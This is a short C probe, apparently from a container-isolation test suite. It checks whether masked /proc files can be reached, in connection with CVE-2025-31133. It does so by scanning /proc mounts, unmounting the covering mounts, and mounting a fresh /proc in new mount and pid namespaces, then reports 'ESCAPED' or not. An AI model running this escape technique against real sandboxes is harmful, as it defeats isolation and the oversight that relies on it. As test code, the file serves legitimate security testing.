/*
 * NAME: looks for a /proc in which a hidden file has content, wherever one is mounted (CVE-2025-31133), takes the cover off, here and in a mount namespace
 * of its own, and mounts a /proc without covers there, of a pid namespace of its own.
 */
#include <mntent.h>
#include <sys/wait.h>
#include "attack.h"

static int has_content(const char *directory, const char *name)
{
    char path[8192], text[16];
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int file = open(path, O_RDONLY), found = file >= 0 && read(file, text, sizeof text) > 0;
    if (file >= 0)
        close(file);
    return found;
}

static int uncovered(const char *name)
{
    char path[8192];
    snprintf(path, sizeof path, "/proc/%s", name);
    return umount2(path, MNT_DETACH) == 0 && has_content("/proc", name);
}

static int another(const char *name)
{
    int status = 0;
    mkdir("/attack/m", 0755);
    if (unshare(CLONE_NEWPID) < 0)
        return 0;
    pid_t child = fork();
    if (child == 0)
        _exit(mount("proc", "/attack/m", "proc", 0, NULL) < 0 || !has_content("/attack/m", name));
    return child > 0 && waitpid(child, &status, 0) == child && status == 0;
}

int main(int count, char **words)
{
    FILE *table = setmntent("/proc/self/mounts", "r");
    if (count != 2 || !table)
        return BROKEN;
    for (struct mntent *entry; (entry = getmntent(table));)
        if (!strcmp(entry->mnt_type, "proc") && has_content(entry->mnt_dir, words[1]))
            return ESCAPED;
    if (uncovered(words[1]) || (own_mounts() && (uncovered(words[1]) || another(words[1]))))
        return ESCAPED;
    return held(words[1]);
}
